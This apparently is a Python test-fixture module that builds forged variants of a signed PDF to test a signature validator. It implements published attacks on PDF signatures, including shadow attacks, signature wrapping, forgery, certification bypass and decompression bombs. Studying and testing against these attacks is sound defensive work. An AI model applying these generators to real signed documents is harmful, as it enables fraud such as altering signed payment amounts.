"""Build the known attacks on PDF signatures, for ``tests/integration/test_attacks.py``.

Every attack starts from a real document signed (PAdES B-B) with the development
software key ``dev-software`` (``var/pki``) and pyHanko, then is altered the way the
published attacks do it (Mladenov et al., "1 Trillion Dollar Refund", CCS 2019; Mainka
et al., "Shadow Attacks", NDSS 2021; Mainka et al., "Breaking the Specification: PDF
Certification", S&P 2021): with pyHanko's ``IncrementalPdfFileWriter`` for incremental
updates, or with raw byte edits that keep every offset in place (same-length
replacements) so that the file still parses and only the targeted part changes.

The base document (``base_pdf``) is prepared the way a shadow attacker would prepare it:
besides its visible page it holds

- a text field ``amount`` filled with ``100.000 VND`` (the "replace" attack target);
- an unreferenced content stream saying ``1.000.000.000 VND`` (the "hide" payload);
- an unreferenced second catalog and page tree (the "hide-and-replace" shadow document).

None of them is visible when the document is signed.
"""

from __future__ import annotations

import functools
import io
import re
import zlib
from dataclasses import dataclass
from pathlib import Path

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.writer import PdfFileWriter
from pyhanko.sign import fields, signers
from pyhanko.sign.fields import MDPPerm

N = generic.NameObject
REPO = Path(__file__).resolve().parents[2]
PKI = REPO / "var" / "pki"
DEV_KEY = PKI / "keys" / "dev-software.key.pem"
DEV_CERT = PKI / "certs" / "dev-software.cert.pem"
INTERM = PKI / "certs" / "interm.cert.pem"
FIELD = "Signature1"
VISIBLE_TEXT = b"Quyet dinh so 12/QD-UBND: so tien 100.000 VND"
HIDDEN_TEXT = b"Quyet dinh so 12/QD-UBND: so tien 1.000.000.000 VND"


def _d(**entries) -> generic.DictionaryObject:
    return generic.DictionaryObject({N("/" + k): v for k, v in entries.items()})


def _a(*items) -> generic.ArrayObject:
    return generic.ArrayObject(items)


def _nums(*xs: float) -> generic.ArrayObject:
    return _a(*(generic.NumberObject(x) for x in xs))


def _text(line: bytes, y: int = 770) -> bytes:
    return b"BT /F1 14 Tf 72 %d Td (%s) Tj ET" % (y, line)


def _write(w) -> bytes:
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


@dataclass(frozen=True)
class Base:
    """The unsigned base document and the object numbers of its prepared parts."""

    data: bytes
    hidden_stream: int       # unreferenced content stream (hide)
    shadow_catalog: int      # unreferenced catalog with its own page tree (hide-and-replace)
    amount_field: int        # the text field ``amount`` (replace)


def _text_appearance(w: PdfFileWriter, font, value: bytes) -> generic.IndirectObject:
    return w.add_object(generic.StreamObject(
        _d(Type=N("/XObject"), Subtype=N("/Form"), BBox=_nums(0, 0, 200, 20),
           Resources=_d(Font=_d(F1=font))),
        stream_data=b"/Tx BMC BT /F1 12 Tf 2 6 Td (%s) Tj ET EMC" % value))


def base_pdf(amount: str = "100.000 VND") -> Base:
    """One A4 page with a visible text, the field ``amount`` filled with ``amount`` and
    the hidden shadow parts (see the module docstring)."""
    w = PdfFileWriter()
    font = w.add_object(_d(Type=N("/Font"), Subtype=N("/Type1"), BaseFont=N("/Helvetica")))
    resources = _d(Font=_d(F1=font))
    page = _d(Type=N("/Page"), MediaBox=_nums(0, 0, 595, 842), Resources=resources,
              Contents=w.add_object(generic.StreamObject(stream_data=_text(VISIBLE_TEXT))))
    page_ref = w.insert_page(page)

    value = generic.TextStringObject(amount)
    field = w.add_object(_d(FT=N("/Tx"), T=generic.TextStringObject("amount"), V=value,
                            DA=generic.TextStringObject("/F1 12 Tf 0 g"),
                            Type=N("/Annot"), Subtype=N("/Widget"), Rect=_nums(72, 700, 272, 720),
                            F=generic.NumberObject(4), P=page_ref,
                            AP=_d(N=_text_appearance(w, font, amount.encode("latin-1")))))
    page_ref.get_object()[N("/Annots")] = _a(field)
    w.root[N("/AcroForm")] = _d(Fields=_a(field), DR=_d(Font=_d(F1=font)),
                                DA=generic.TextStringObject("/F1 12 Tf 0 g"))

    hidden = w.add_object(generic.StreamObject(stream_data=_text(HIDDEN_TEXT, 740)))
    shadow_page = _d(Type=N("/Page"), MediaBox=_nums(0, 0, 595, 842), Resources=resources,
                     Contents=w.add_object(generic.StreamObject(stream_data=_text(HIDDEN_TEXT))))
    shadow_pages = w.add_object(_d(Type=N("/Pages"), Count=generic.NumberObject(1),
                                   Kids=_a()))
    shadow_page[N("/Parent")] = shadow_pages
    shadow_page_ref = w.add_object(shadow_page)
    shadow_pages.get_object()[N("/Kids")] = _a(shadow_page_ref)
    shadow_catalog = w.add_object(_d(Type=N("/Catalog"), Pages=shadow_pages))
    return Base(_write(w), hidden.idnum, shadow_catalog.idnum, field.idnum)


# -- signing ---------------------------------------------------------------------------

def signer() -> signers.SimpleSigner:
    """The development software key with its issuing CA."""
    s = signers.SimpleSigner.load(str(DEV_KEY), str(DEV_CERT), ca_chain_files=(str(INTERM),))
    assert s is not None, f"cannot load {DEV_KEY}"
    return s


def sign(data: bytes, *, field: str = FIELD, certify: bool = False,
         docmdp: MDPPerm | None = None, ignore_docmdp: bool = False) -> bytes:
    """``data`` signed (B-B) in the field ``field`` (created invisible if missing);
    ``certify`` with ``docmdp`` makes it a certification signature. ``ignore_docmdp``
    signs even where an earlier certification forbids it (as an attacker's tool would:
    pyHanko refuses)."""
    w = IncrementalPdfFileWriter(io.BytesIO(data), strict=True)
    kwargs = {"certify": True, "docmdp_permissions": docmdp or MDPPerm.FILL_FORMS} if certify else {}
    meta = signers.PdfSignatureMetadata(field_name=field, subfilter=None, **kwargs)
    pdf_signer = signers.PdfSigner(meta, signer=signer())
    if ignore_docmdp:
        pdf_signer._enforce_certification_constraints = lambda reader: None
    return pdf_signer.sign_pdf(w).getvalue()


# -- raw byte helpers ------------------------------------------------------------------

_BYTE_RANGE = re.compile(rb"/ByteRange\s*\[([^\]]*)\] *")
_CONTENTS = re.compile(rb"/Contents\s*<([0-9a-fA-F]*)>")


def byte_range(data: bytes) -> tuple[int, int, int, int]:
    """The last signature's ``/ByteRange``."""
    *_, m = _BYTE_RANGE.finditer(data)
    a, b, c, d = (int(x) for x in m.group(1).split())
    return a, b, c, d


def _last(pattern: re.Pattern, data: bytes) -> re.Match:
    *_, m = pattern.finditer(data)
    return m


def _same_length(old: bytes, new: bytes) -> bytes:
    assert len(new) <= len(old), (old, new)
    return new.ljust(len(old), b" ")


def set_byte_range(data: bytes, values: str) -> bytes:
    """The last ``/ByteRange`` array replaced in place by ``[values]`` (space-padded)."""
    m = _last(_BYTE_RANGE, data)
    start, end = m.span()
    return data[:start] + _same_length(m.group(0), b"/ByteRange [" + values.encode() + b"]") + data[end:]


def set_contents(data: bytes, value: bytes) -> bytes:
    """The last ``/Contents <hex>`` value replaced in place by ``value`` (space-padded)."""
    m = _last(_CONTENTS, data)
    start, end = m.span()
    return data[:start] + _same_length(m.group(0), b"/Contents " + value) + data[end:]


def contents_der(data: bytes) -> bytes:
    return bytes.fromhex(_last(_CONTENTS, data).group(1).decode())


# -- 1. incremental saving attacks -----------------------------------------------------

def isa_new_page(data: bytes) -> bytes:
    """ISA: an incremental update appends a new page saying something else."""
    w = IncrementalPdfFileWriter(io.BytesIO(data), strict=True)
    font = w.add_object(_d(Type=N("/Font"), Subtype=N("/Type1"), BaseFont=N("/Helvetica")))
    w.insert_page(_d(Type=N("/Page"), MediaBox=_nums(0, 0, 595, 842), Resources=_d(Font=_d(F1=font)),
                     Contents=w.add_object(generic.StreamObject(stream_data=_text(HIDDEN_TEXT)))))
    return _write(w)


def isa_changed_content(data: bytes) -> bytes:
    """ISA: an incremental update gives page 1 a new content stream."""
    w = IncrementalPdfFileWriter(io.BytesIO(data), strict=True)
    page = w.root["/Pages"]["/Kids"][0].get_object()
    page[N("/Contents")] = w.add_object(generic.StreamObject(stream_data=_text(HIDDEN_TEXT)))
    w.update_container(page)
    return _write(w)


def isa_raw_append(data: bytes) -> bytes:
    """ISA without an xref: the page's content stream redefined by bytes appended after
    ``%%EOF`` (no new xref section, no trailer: lenient readers take the last
    definition)."""
    page = _first_page_content_ref(data)
    body = _text(HIDDEN_TEXT)
    return data + (b"\n%d %d obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n"
                   % (page.idnum, page.generation, len(body), body))


def _first_page_content_ref(data: bytes) -> generic.Reference:
    from pyhanko.pdf_utils.reader import PdfFileReader

    r = PdfFileReader(io.BytesIO(data), strict=False)
    return r.root["/Pages"]["/Kids"][0].get_object().raw_get("/Contents").reference


def _ref(w: IncrementalPdfFileWriter, idnum: int) -> generic.Reference:
    """Object ``idnum`` (generation 0) of the revision ``w`` updates."""
    return generic.Reference(idnum, 0, w.prev)


# -- 2. signature wrapping -------------------------------------------------------------

MALICIOUS_OBJECT = b"\n99 0 obj\n(signature wrapping payload)\nendobj\n"


def swa_shifted_second_range(data: bytes) -> bytes:
    """SWA: the second signed range shifted 64 bytes later, in place
    (``/ByteRange [a b c+64 d-64]``): the bytes it skips are no longer signed."""
    a, b, c, d = byte_range(data)
    return set_byte_range(data, f"{a} {b} {c + 64} {d - 64}")


def swa_moved_second_range(data: bytes) -> bytes:
    """SWA: malicious bytes inserted after ``/Contents`` and the second signed range
    moved behind them (``/ByteRange [a b c+k d]``); every later offset moves."""
    a, b, c, d = byte_range(data)
    moved = data[:c] + MALICIOUS_OBJECT + data[c:]
    return set_byte_range(moved, f"{a} {b} {c + len(MALICIOUS_OBJECT)} {d}")


def swa_overlapping_ranges(data: bytes) -> bytes:
    """SWA: the second range starts inside the first (``[a b b-100 d+gap+100]``)."""
    a, b, _c, _d = byte_range(data)
    return set_byte_range(data, f"{a} {b} {b - 100} {len(data) - b + 100}")


def swa_partial_coverage(data: bytes) -> bytes:
    """SWA: the ByteRange stops 64 bytes before the end of the file (the tail, with
    ``startxref``, is no longer covered)."""
    a, b, c, d = byte_range(data)
    return set_byte_range(data, f"{a} {b} {c} {d - 64}")


def swa_contents_moved(data: bytes) -> bytes:
    """SWA: the signature dictionary is rewritten in an incremental update whose
    ``/Contents`` is the original CMS but whose ``/ByteRange`` points its gap at a
    different place (the new dictionary's own ``/Contents``), so that the original
    signed bytes and the original ``/Contents`` are no longer what the range excludes."""
    w = IncrementalPdfFileWriter(io.BytesIO(data), strict=True)
    field = next(f.get_object() for f in w.root["/AcroForm"]["/Fields"] if f.get_object().get("/FT") == "/Sig")
    sig_ref = field.raw_get("/V").reference
    sig = w.get_object(sig_ref)
    sig[N("/ByteRange")] = _nums(*(10 ** 9,) * 4)  # room for the real offsets below
    sig[N("/Contents")] = generic.ByteStringObject(contents_der(data))
    sig[N("/Reason")] = generic.TextStringObject("wrapped")
    w.mark_update(sig_ref)
    out = _write(w)
    # now point the range's gap at the moved /Contents: [0 b' c' rest]
    m = _last(_CONTENTS, out)
    start, end = m.span(1)
    return set_byte_range(out, f"0 {start - 1} {end + 1} {len(out) - end - 1}")


# -- 3. universal signature forgery ----------------------------------------------------

def usf_contents(data: bytes, variant: str) -> bytes:
    """USF on ``/Contents``: ``empty`` (``<>``), ``null``, ``zeros`` (all zero bytes),
    ``malformed`` (not hexadecimal), ``not_cms`` (a certificate's DER instead of a CMS)."""
    m = _last(_CONTENTS, data)
    size = len(m.group(1))
    if variant == "empty":
        return set_contents(data, b"<>")
    if variant == "null":
        return set_contents(data, b"null")
    if variant == "zeros":
        return set_contents(data, b"<" + b"0" * size + b">")
    if variant == "malformed":
        return set_contents(data, b"<" + b"zz" * (size // 2) + b">")
    if variant == "not_cms":
        from pyhanko.keys import load_cert_from_pemder

        der = load_cert_from_pemder(str(DEV_CERT)).dump()
        return set_contents(data, b"<" + der.hex().encode().ljust(size, b"0") + b">")
    raise ValueError(variant)


def usf_byte_range(data: bytes, variant: str) -> bytes:
    """USF on ``/ByteRange``: ``missing`` (the key renamed), ``malformed`` (three
    entries, one a string), ``negative`` (negative offsets and lengths), ``null``."""
    a, b, c, d = byte_range(data)
    if variant == "missing":
        m = _last(_BYTE_RANGE, data)
        start = m.start()
        return data[:start] + b"/XyteRange" + data[start + len(b"/ByteRange"):]
    if variant == "malformed":
        return set_byte_range(data, f"{a} (x) {c}")
    if variant == "negative":
        return set_byte_range(data, f"{a} -{b} -{c} {d}")
    if variant == "empty":
        return set_byte_range(data, "")
    raise ValueError(variant)


# -- 4. shadow attacks -----------------------------------------------------------------

def shadow_hide(data: bytes, base: Base) -> bytes:
    """Shadow *hide*: the payload stream was in the signed document but unreferenced; an
    update appends it to page 1's contents (only the page dictionary changes)."""
    w = IncrementalPdfFileWriter(io.BytesIO(data), strict=True)
    page = w.root["/Pages"]["/Kids"][0].get_object()
    page[N("/Contents")] = _a(page.raw_get("/Contents"), generic.IndirectObject(base.hidden_stream, 0, w.prev))
    w.update_container(page)
    return _write(w)


def shadow_replace_field(data: bytes, base: Base) -> bytes:
    """Shadow *replace*: the value of the field ``amount``, filled when the document was
    signed, is changed (with a new appearance) by a later update."""
    w = IncrementalPdfFileWriter(io.BytesIO(data), strict=True)
    ref = _ref(w, base.amount_field)
    field = w.get_object(ref)
    field[N("/V")] = generic.TextStringObject("1.000.000.000 VND")
    font = w.root["/AcroForm"]["/DR"]["/Font"].raw_get("/F1")
    ap = w.add_object(generic.StreamObject(
        _d(Type=N("/XObject"), Subtype=N("/Form"), BBox=_nums(0, 0, 200, 20),
           Resources=_d(Font=_d(F1=font))),
        stream_data=b"/Tx BMC BT /F1 12 Tf 2 6 Td (1.000.000.000 VND) Tj ET EMC"))
    field[N("/AP")] = _d(N=ap)
    w.mark_update(ref)
    return _write(w)


def shadow_replace_appearance(data: bytes, base: Base) -> bytes:
    """Shadow *replace* of the appearance only: ``amount`` keeps its value but its
    widget's appearance stream is redefined (same object number) to show another
    amount."""
    w = IncrementalPdfFileWriter(io.BytesIO(data), strict=True)
    field = w.get_object(_ref(w, base.amount_field))
    ap_ref = field["/AP"].raw_get("/N").reference
    stream = w.get_object(ap_ref)
    stream._data = b"/Tx BMC BT /F1 12 Tf 2 6 Td (1.000.000.000 VND) Tj ET EMC"
    stream._encoded_data = None
    if "/Filter" in stream:
        del stream["/Filter"]
    w.mark_update(ap_ref)
    return _write(w)


def shadow_replace_overlay(data: bytes) -> bytes:
    """Shadow *replace* by overlay: a FreeText annotation with an opaque appearance drawn
    over the signed amount after signing."""
    w = IncrementalPdfFileWriter(io.BytesIO(data), strict=True)
    page_ref = w.root["/Pages"]["/Kids"].raw_get(0)
    page = page_ref.get_object()
    font = w.root["/AcroForm"]["/DR"]["/Font"].raw_get("/F1")
    ap = w.add_object(generic.StreamObject(
        _d(Type=N("/XObject"), Subtype=N("/Form"), BBox=_nums(0, 0, 400, 20),
           Resources=_d(Font=_d(F1=font))),
        stream_data=b"1 g 0 0 400 20 re f 0 g " + _text(HIDDEN_TEXT, 6).replace(b"72 6", b"0 6")))
    annot = w.add_object(_d(Type=N("/Annot"), Subtype=N("/FreeText"), Rect=_nums(70, 765, 470, 785),
                            Contents=generic.TextStringObject("1.000.000.000 VND"),
                            DA=generic.TextStringObject("/F1 14 Tf 0 g"), P=page_ref, AP=_d(N=ap)))
    page[N("/Annots")] = _a(*page.raw_get("/Annots"), annot)
    w.update_container(page)
    return _write(w)


def shadow_hide_and_replace(data: bytes, base: Base) -> bytes:
    """Shadow *hide-and-replace*: an update whose trailer points ``/Root`` at the shadow
    catalog prepared (unreferenced) in the signed document: a whole other document."""
    w = IncrementalPdfFileWriter(io.BytesIO(data), strict=True)
    shadow = generic.IndirectObject(base.shadow_catalog, 0, w.prev)
    w.get_object(shadow.reference)[N("/AcroForm")] = w.root.raw_get("/AcroForm")
    w.mark_update(shadow.reference)
    w._root_ref = shadow.reference  # pyHanko keeps the catalog ref here
    w.trailer[N("/Root")] = shadow
    return _write(w)


def shadow_object_replaced(data: bytes) -> bytes:
    """Shadow *hide-and-replace* of one object: a new xref section redefines page 1's
    content stream under its own object number."""
    w = IncrementalPdfFileWriter(io.BytesIO(data), strict=True)
    ref = w.root["/Pages"]["/Kids"][0].raw_get("/Contents").reference
    stream = w.get_object(ref)
    stream._data = _text(HIDDEN_TEXT)
    stream._encoded_data = None
    if "/Filter" in stream:
        del stream["/Filter"]
    w.mark_update(ref)
    return _write(w)


# -- 5. certification attacks ----------------------------------------------------------

def evil_annotation(data: bytes, subtype: str = "/FreeText") -> bytes:
    """EAA: an annotation (FreeText with an appearance, or a sticky note) added to a
    certified document."""
    if subtype == "/FreeText":
        return shadow_replace_overlay(data)
    w = IncrementalPdfFileWriter(io.BytesIO(data), strict=True)
    page_ref = w.root["/Pages"]["/Kids"].raw_get(0)
    page = page_ref.get_object()
    annot = w.add_object(_d(Type=N("/Annot"), Subtype=N(subtype), Rect=_nums(50, 50, 70, 70),
                            Contents=generic.TextStringObject("Da thanh toan"), P=page_ref))
    page[N("/Annots")] = _a(*page.raw_get("/Annots"), annot)
    w.update_container(page)
    return _write(w)


def sneaky_signature(data: bytes, *, sign_it: bool) -> bytes:
    """SSA: a new signature field whose widget has an appearance showing text, added
    to a certified document; ``sign_it`` also signs it (with the same key)."""
    w = IncrementalPdfFileWriter(io.BytesIO(data), strict=True)
    fields.append_signature_field(w, fields.SigFieldSpec("Sneaky", box=(72, 500, 472, 540)))
    out = _write(w)
    # give the empty field a visible appearance drawn by the attacker
    w = IncrementalPdfFileWriter(io.BytesIO(out), strict=True)
    fields_arr = w.root["/AcroForm"]["/Fields"]
    field_ref = next(fields_arr.raw_get(i).reference for i in range(len(fields_arr))
                     if fields_arr[i].get("/T") == "Sneaky")
    font = w.root["/AcroForm"]["/DR"]["/Font"].raw_get("/F1")
    ap = w.add_object(generic.StreamObject(
        _d(Type=N("/XObject"), Subtype=N("/Form"), BBox=_nums(0, 0, 400, 40),
           Resources=_d(Font=_d(F1=font))),
        stream_data=b"1 g 0 0 400 40 re f 0 g BT /F1 14 Tf 2 14 Td (%s) Tj ET" % HIDDEN_TEXT))
    w.get_object(field_ref)[N("/AP")] = _d(N=ap)
    w.mark_update(field_ref)
    out = _write(w)
    return sign(out, field="Sneaky", ignore_docmdp=True) if sign_it else out


# -- bad input -------------------------------------------------------------------------

def _raw_pdf(objects: list[bytes], *, root: int = 1, prev_self: bool = False) -> bytes:
    """A hand-written PDF with a classic xref table over ``objects`` (numbered from 1)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    prev = b" /Prev %d" % xref_at if prev_self else b""
    out += b"trailer\n<< /Size %d /Root %d 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, root, prev, xref_at)
    return bytes(out)


_PAGE_OBJECTS = [b"<< /Type /Catalog /Pages 2 0 R >>",
                 b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                 b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"]


@functools.lru_cache(maxsize=1)
def bomb_stream(inflated_gib: float = 1.25) -> bytes:
    """Deflate data that inflates to ``inflated_gib`` GiB of zeros (about 1.3 MB)."""
    c = zlib.compressobj(9)
    chunk = bytes(1 << 24)
    parts = [c.compress(chunk) for _ in range(int(inflated_gib * 64))]
    parts.append(c.flush())
    return b"".join(parts)


def decompression_bomb() -> bytes:
    """Unsigned: a page whose FlateDecode content stream inflates to 1.25 GiB."""
    data = bomb_stream()
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream"
    return _raw_pdf([*_PAGE_OBJECTS, stream])


def signed_bomb_in_dss(data: bytes) -> bytes:
    """Signed, then an update adds a DSS whose ``/Certs`` stream is the bomb (the
    validator reads the DSS for embedded validation data)."""
    w = IncrementalPdfFileWriter(io.BytesIO(data), strict=True)
    bomb = w.add_object(generic.StreamObject(_d(Filter=N("/FlateDecode")), encoded_data=bomb_stream()))
    w.root[N("/DSS")] = _d(Certs=_a(bomb))
    w.update_root()
    return _write(w)


def signed_bomb_as_content(data: bytes) -> bytes:
    """Signed, then an update makes the bomb page 1's content stream (the change the
    difference analysis looks at)."""
    w = IncrementalPdfFileWriter(io.BytesIO(data), strict=True)
    page = w.root["/Pages"]["/Kids"][0].get_object()
    page[N("/Contents")] = w.add_object(
        generic.StreamObject(_d(Filter=N("/FlateDecode")), encoded_data=bomb_stream()))
    w.update_container(page)
    return _write(w)


def _raw_update(data: bytes, objects: dict[int, bytes], *, prev_self: bool = False) -> bytes:
    """A hand-written incremental update (classic xref) redefining ``objects``; with
    ``prev_self`` its trailer's ``/Prev`` is its own xref section."""
    from pyhanko.pdf_utils.reader import PdfFileReader

    r = PdfFileReader(io.BytesIO(data), strict=False)
    size, root = int(r.trailer["/Size"]), r.trailer.raw_get("/Root").reference
    out = bytearray(data if data.endswith(b"\n") else data + b"\n")
    offsets = {}
    for idnum, body in objects.items():
        offsets[idnum] = len(out)
        out += b"%d 0 obj\n" % idnum + body + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for idnum, off in offsets.items():
        out += b"%d 1\n%010d 00000 n \n" % (idnum, off)
    prev = xref_at if prev_self else r.last_startxref
    out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size, root.idnum, prev, xref_at)
    return bytes(out)


def signed_deep_nesting(data: bytes, depth: int = 10_000) -> bytes:
    """Signed, then an update gives page 1 an array nested ``depth`` levels deep."""
    from pyhanko.pdf_utils.reader import PdfFileReader

    r = PdfFileReader(io.BytesIO(data), strict=False)
    page_ref = r.root["/Pages"]["/Kids"].raw_get(0)
    buf = io.BytesIO()
    page_ref.get_object().write_to_stream(buf, None)
    body = buf.getvalue().rstrip()
    assert body.endswith(b">>")
    body = body[:-2] + b" /Deep " + b"[" * depth + b"]" * depth + b" >>"
    return _raw_update(data, {page_ref.idnum: body})


def signed_xref_loop(data: bytes) -> bytes:
    """Signed, then an update whose ``/Prev`` points to its own xref section."""
    return _raw_update(data, {}, prev_self=True)


def deep_nesting(depth: int = 10_000) -> bytes:
    """A page dictionary holding an array nested ``depth`` levels deep."""
    page = _PAGE_OBJECTS[2].replace(b" >>", b" /Deep " + b"[" * depth + b"]" * depth + b" >>")
    return _raw_pdf([*_PAGE_OBJECTS[:2], page, b"<< /Length 0 >>\nstream\n\nendstream"])


def xref_loop() -> bytes:
    """A trailer whose ``/Prev`` points to its own xref section."""
    return _raw_pdf([*_PAGE_OBJECTS, b"<< /Length 0 >>\nstream\n\nendstream"], prev_self=True)

